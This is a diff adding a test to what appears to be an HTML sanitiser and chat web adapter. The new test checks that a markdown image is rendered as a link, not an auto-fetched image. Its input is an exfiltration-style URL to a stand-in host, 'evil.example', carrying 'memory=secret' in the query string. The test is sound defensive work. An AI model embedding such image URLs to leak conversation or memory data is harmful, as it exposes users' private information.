@@ -59,3 +59,10 @@ def test_the_sanitiser_removes_script_handlers_and_unsafe_links() -> None:
     clean = sanitise_html(dirty + '<a href="https://e.co">ok</a><iframe src="https://e.co"></iframe>')
     assert "onclick" not in clean and "script" not in clean and "style" not in clean and "javascript" not in clean
     assert "iframe" not in clean and '<a href="https://e.co" rel="noopener noreferrer nofollow">ok</a>' in clean
+
+
+def test_an_image_is_a_link_so_the_page_fetches_nothing_by_itself() -> None:
+    [page] = WebAdapter().format_response("![chart](https://evil.example/pixel.png?memory=secret)")
+    assert "<img" not in page
+    assert '<a href="https://evil.example/pixel.png?memory=secret" rel="noopener noreferrer nofollow">chart</a>' in page
+    assert "<img" not in sanitise_html('<img src="https://e.co/x.png">')
